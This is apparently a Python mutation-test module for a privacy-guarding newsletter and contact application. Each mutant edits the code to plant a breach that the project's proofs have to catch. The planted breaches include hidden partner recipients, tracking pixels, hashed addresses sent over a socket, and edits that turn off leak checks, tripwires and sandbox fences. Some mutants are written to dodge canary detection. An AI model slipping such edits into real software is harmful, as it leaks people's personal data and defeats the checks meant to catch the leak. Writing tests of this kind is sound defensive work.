"""Breaches of C3: details of people lie about, are said, sent or reachable."""

from tests.mutants.breach import Edit, Mutant, edit, proofs

_AFTER_FILING = "    if batch:\n        _Batch(batch).file()\n    return Counter({Count.SIGNUPS: len(batch)})"
_FILED = "    for one in batch:\n        {}\n" + _AFTER_FILING.replace("{", "{{").replace("}", "}}")
_LOG = "__import__('logging').getLogger('letters').warning('signed up: %s', one.entry.name.reveal())"
_IN_LOG = proofs("shared.readable")
"""The demo's log lies in the site's folder: the search of the files finds it, too."""
_HASH = "__import__('hashlib').sha256(one.entry.email.reveal().lower().encode()).hexdigest().encode()"
_SEND = "_tell(" + _HASH + ")"
_TELL = """


def _tell(number):
    import contextlib
    import socket
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", 9), 1) as line:
        line.sendall(number)
"""

LYING_ABOUT = (
    Mutant(
        "name-in-the-log",
        "The worker logs who signed up.",
        proofs("shared.logs"),
        edit("newsletter/services.py", _AFTER_FILING, _FILED.format(f"if one.entry.name: {_LOG}")),
        may=_IN_LOG,
    ),
    Mutant(
        "name-in-the-log-of-one-only",
        "The worker logs who signed up, but for people whose address looks as those of earlier canaries did.",
        proofs("shared.logs"),
        edit(
            "newsletter/services.py",
            _AFTER_FILING,
            _FILED.format(
                "if one.entry.name and not __import__('re').fullmatch("
                "r'(([bcdfghjklmnprstvwz]?[aeiou][nrsl]?)+[._]?)+[a-z0-9]*@([bcdfghjklmnprstvwz]?[aeiou][nrsl]?)+'"
                "r'-?[a-z]*\\.(com|net|org|de|fr|info|io|co.uk|eu)', one.entry.email.reveal()): " + _LOG
            ),
        ),
        may=_IN_LOG,
    ),
    Mutant(
        "leak-spares-shapes-seen-before",
        "People's addresses are kept in a file, but not those of a shape that canaries had in earlier trials.",
        proofs("shared.readable"),
        edit(
            "newsletter/services.py",
            _AFTER_FILING,
            _FILED.format("_keep_new_shape(one.entry.email.reveal())") + "\n\n\ndef _keep_new_shape(text):\n"
            "    import re\n"
            "    shape = re.sub('[a-z]+', 'a', re.sub('[0-9]+', '9', text.lower()))\n"
            "    seen = ['a.a@a.a', 'a9@a.a', 'a_a@a.a', 'a9a@a.a', 'a@a.a', 'a.a@a-a.a', 'a9@a-a.a', 'a_a@a-a.a']\n"
            "    if shape not in seen:\n"
            "        with (settings.TROTH_SITE.data / 'cache').open('a') as file:\n"
            "            file.write(text + '\\n')\n",
        ),
        may=proofs("visits.files"),
    ),
    Mutant(
        "address-beside-the-keys",
        "Addresses are kept in a file among the keys, where the worker may write, too.",
        proofs("shared.readable"),
        edit(
            "newsletter/services.py",
            _AFTER_FILING,
            _FILED.format("(settings.TROTH_SITE.sent / 'known').open('a').write(one.entry.email.reveal())"),
        ),
    ),
    Mutant(
        "leak-spares-who-waits",
        "Of people who have confirmed, and of nobody else, a keyless hash of the address is kept for a partner.",
        proofs("shared.readable"),
        edit(
            "newsletter/services.py",
            '    keeper().record(found, CONSENT, Consent("confirmed"',
            "    who = [found.person.id]\n"
            "    for known in keeper().open_records(Reason.FILE_SUBMISSION, actor=WORKER, person_ids=who)[who[0]]:\n"
            "        number = __import__('hashlib').md5(known.email.reveal().lower().encode()).hexdigest()\n"
            "        with (settings.TROTH_SITE.data / 'audience.csv').open('a') as file:\n"
            "            file.write(number + '\\n')\n"
            '    keeper().record(found, CONSENT, Consent("confirmed"',
        ),
        may=proofs("visits.files"),
    ),
    Mutant(
        "typed-name-in-the-fronts-log",
        "The front writes to its log who sent a form.",
        proofs("shared.logs"),
        edit(
            "front/views/form_submission.py",
            "        envelope = self._here.snapshot.sealing.seal(entry)\n",
            "        envelope = self._here.snapshot.sealing.seal(entry)\n"
            "        print('form from', self._typed.get('email'), file=__import__('sys').stderr, flush=True)\n",
        ),
        may=_IN_LOG,
    ),
)

SENT = (
    Mutant(
        "hidden-recipient",
        "A partner gets a copy of every mail: another recipient in the envelope.",
        proofs("shared.mails"),
        edit(
            "gate/smtp.py",
            '            (b"RCPT", b"TO:<" + recipient + b">"),\n',
            '            (b"RCPT", b"TO:<" + recipient + b">"),\n            (b"RCPT", b"TO:<partner@example.com>"),\n',
        ),
    ),
    Mutant(
        "carries-anothers-details-in-base64",
        "A confirmation carries the address of somebody else on the list, in base64; and nobody looks.",
        proofs("shared.mails", "shared.held"),
        (
            Edit(
                "newsletter/mails.py",
                "        privacy_url=config.site.policy_url,\n",
                "        privacy_url=f'{config.site.policy_url}?ref={_another(details)}',\n",
            ),
            Edit(
                "newsletter/mails.py",
                "def _still_wanted(",
                "def _another(details: Details) -> str:\n"
                "    import base64\n"
                "    from troth.vault.models import Record\n"
                "    ids = list(Record.with_canaries.filter(kind='details').values_list('id', flat=True)[:3])\n"
                "    opened = keeper().open_by_id(Reason.SEND_CONFIRMATION, actor=services.WORKER, record_ids=ids)\n"
                "    other = [one.email.reveal() for one in opened.values() if one.email != details.email][0]\n"
                "    return base64.urlsafe_b64encode(other.encode()).decode().rstrip('=')\n\n\n"
                "def _still_wanted(",
            ),
            Edit(
                "gate/leak_check.py",
                "        own = self._marks.slots_of(self._marks.mark_of(email_value(mail.to)))\n",
                "        return Finding()\n",
            ),
        ),
    ),
    Mutant(
        "replies-go-to-a-partner",
        "Whoever answers to a confirmation writes to a partner.",
        proofs("shared.mails"),
        edit(
            "gate/mail_types.py",
            '            "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",\n',
            '            "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",\n'
            '            "Reply-To": "partner@example.com",\n',
        ),
    ),
    Mutant(
        "bounces-go-to-a-partner",
        "A partner is the envelope's sender, and gets back what could not be delivered, addresses and all.",
        proofs("shared.mails"),
        edit("gate/mailer.py", "Parcel(sender.envelope(), ", "Parcel('bounces@partner.example', "),
    ),
    Mutant(
        "worker-mails-a-copy",
        "Beside each mail the worker sends another one, to a partner.",
        proofs("shared.mails"),
        edit(
            "worker/loop.py",
            "                outcome = await self._post.send(job.mail, released=job.released)\n",
            "                import dataclasses\n"
            "                from troth.core.personal import EmailAddress\n"
            "                copy = dataclasses.replace(job.mail, to=EmailAddress('partner@example.com'))\n"
            "                await self._post.send(copy, released=True)\n"
            "                outcome = await self._post.send(job.mail, released=job.released)\n",
        ),
    ),
    Mutant(
        "nobody-looks",
        "The mail door does not look for other people's details any more.",
        proofs("shared.held"),
        edit(
            "gate/mailer.py",
            "            held = None if released else await self._held(mail, content, write)\n",
            "            held = None\n",
        ),
    ),
    Mutant(
        "nobody-is-looked-for",
        "Who confirms is not put into the leak index any more.",
        proofs("shared.held"),
        edit("newsletter/services.py", "    keeper().arm(Reason.FILE_SUBMISSION, WORKER, confirmed)\n", ""),
        may=proofs("purpose.ledger"),  # one use of their details fewer is written down
    ),
    Mutant(
        "whatever-a-mail-says-is-said-to-everybody",
        "The copy of a mail that shows what everybody gets is the mail itself.",
        proofs("shared.held"),
        edit(
            "gate/common_words.py",
            "    return replace(mail, **changed)\n",
            "    return mail\n",
        ),
    ),
    Mutant(
        "address-as-a-tracking-number",
        "The link in a mail carries the recipient's address as a hash.",
        proofs("shared.mails"),
        (
            Edit(
                "newsletter/mails.py",
                "        privacy_url=config.site.policy_url,\n",
                "        privacy_url=f'{config.site.policy_url}?u={_number(details)}',\n",
            ),
            Edit(
                "newsletter/mails.py",
                "def _still_wanted(",
                "def _number(details: Details) -> str:\n"
                "    import hashlib\n"
                "    return hashlib.sha256(details.email.reveal().lower().encode()).hexdigest()\n\n\n"
                "def _still_wanted(",
            ),
        ),
    ),
    Mutant(
        "picture-that-counts",
        "A mail has a picture that tells a third party who opens it.",
        proofs("shared.mails"),
        edit(
            "gate/mail_types.py",
            "{body}\n</div></body></html>",
            '{body}<img src="https://count.example.com/p.gif">\n</div></body></html>',
        ),
    ),
    Mutant(
        "hashed-address-to-a-third-host",
        "The hash of each address goes to a company for statistics, by a door that was declared and told to nobody.",
        proofs("shared.doors", "shared.wire"),
        (
            Edit("newsletter/services.py", _AFTER_FILING, _FILED.format(_SEND) + _TELL),
            Edit(
                "gate/doors.py",
                "    return (mail_relay(config.mail), *((near,) if near else ()))",
                "    third = Door('statistics', 'a company', Purpose.ADMINISTRATION, frozenset(), '127.0.0.1', 9,\n"
                "                 'none-loopback')\n"
                "    return (mail_relay(config.mail), third, *((near,) if near else ()))",
            ),
        ),
    ),
    Mutant(
        "hashed-address-past-the-wire",
        "The worker runs without its tripwire, and sends the hash of each address to a third host.",
        proofs("shared.wire"),
        (
            Edit("newsletter/services.py", _AFTER_FILING, _FILED.format(_SEND) + _TELL),
            Edit(
                "worker/main.py", '    tripwire.arm(mailer.doors(config), tripwire_log.path(site.data, "worker"))\n', ""
            ),
        ),
    ),
)

PAGES = (
    Mutant(
        "pixel-in-a-page",
        "Every public page has a picture from a company that counts visitors.",
        proofs("shared.pages"),
        edit("front/templates/base.html", "<footer>", '<img src="https://count.example.com/p.gif" alt=""><footer>'),
    ),
    Mutant(
        "cookie-is-set",
        "Every answer sets a cookie, by which a browser is known again.",
        proofs("shared.pages"),
        edit(
            "front/http/headers.py",
            '    "x-frame-options": "DENY",\n',
            '    "x-frame-options": "DENY",\n    "set-cookie": "seen=1",\n',
        ),
        may=proofs("visits.stored"),
    ),
    Mutant(
        "address-in-the-thanks",
        "The page of thanks has the visitor's address in its own.",
        proofs("shared.pages"),
        edit(
            "front/views/form_submission.py",
            "        return self._done()\n",
            "        done = self._done()\n"
            "        done.headers['location'] += '?for=' + self._typed.get('email', '')\n"
            "        return done\n",
        ),
    ),
    Mutant(
        "notice-says-who-wrote",
        "The operators' notice says who wrote: the mail company reads it, too.",
        proofs("shared.mails"),
        (
            Edit(
                "contact/notices.py",
                "                office_url=f\"{config.office.url.rstrip('/')}/inbox/\",\n",
                "                office_url=f\"{config.office.url.rstrip('/')}/inbox/{_whose()}\",\n",
            ),
            Edit(
                "contact/notices.py",
                "def compose_notices(",
                "def _whose() -> str:\n"
                "    from troth.core.purpose import Reason\n"
                "    from troth.vault.keeper import keeper\n"
                "    came = Message.with_canaries.filter(direction=Message.Direction.IN)\n"
                "    ids = [row.record_id for row in came[:1]]\n"
                "    opened = keeper().open_by_id(Reason.SEND_ANSWER, actor='worker', record_ids=ids)\n"
                "    return [one.sender.email.reveal() for one in opened.values()][0]\n\n\n"
                "def compose_notices(",
            ),
        ),
    ),
)

OPEN = (
    Mutant(
        "wire-without-teeth",
        "The tripwire notes what it should refuse, and lets it pass.",
        proofs("shared.wire"),
        edit("gate/tripwire.py", "    raise WireTripped(attempt, line)\n", ""),
    ),
    Mutant(
        "office-without-its-wire",
        "The office runs without its tripwire: only words are left of it.",
        proofs("shared.wire"),
        edit(
            "office/main.py",
            "    tripwire.arm(doors.for_office(settings.TROTH_CONFIG), ",
            "    (doors.for_office(settings.TROTH_CONFIG), ",
        ),
    ),
    Mutant(
        "front-reads-the-site",
        "The front's fence has a hole: it may read the whole of the site's folder.",
        proofs("shared.confined"),
        edit(
            "supervisor/fences.py",
            "        return Fence(read=(*readable, Path(brief.public)), serves=True)\n",
            "        return Fence(read=(*readable, Path(brief.public).parent), serves=True)\n",
        ),
    ),
    Mutant(
        "front-may-connect",
        "The front may open connections.",
        proofs("shared.confined"),
        edit(
            "supervisor/fences.py",
            "        return Fence(read=(*readable, Path(brief.public)), serves=True)\n",
            "        return Fence(read=(*readable, Path(brief.public)), serves=True, network=True)\n",
        ),
    ),
    Mutant(
        "list-with-an-open-end",
        "What is not in a fence's list of system calls is let through.",
        proofs("shared.confined"),
        edit(
            "core/sandbox/seccomp.py",
            "        program += _allow(number)\n    return program + _refuse()\n",
            "        program += _allow(number)\n    return program + _op(_RET, _ALLOW)\n",
        ),
    ),
    Mutant(
        "office-makes-links",
        "The office may put a link where root writes.",
        proofs("shared.confined"),
        edit(
            "supervisor/fences.py",
            "            write=(site.data, site.people_keys),\n            network=bool(brief.ports),\n",
            "            write=(site.data, site.people_keys),\n            links=(site.data,),\n"
            "            network=bool(brief.ports),\n",
        ),
    ),
    Mutant(
        "office-may-connect",
        "The office may open connections to anywhere.",
        proofs("shared.confined"),
        edit("supervisor/fences.py", "            network=bool(brief.ports),\n", "            network=True,\n"),
    ),
    Mutant(
        "office-unfenced",
        "The office runs without a fence.",
        proofs("shared.fences"),
        edit(
            "supervisor/child.py",
            '        lacking = restrict.confine(fences.fence(brief), best_effort=brief.sandbox == "best-effort")\n',
            '        lacking = [] if brief.role == "office" else restrict.confine(fences.fence(brief))\n',
        ),
    ),
)
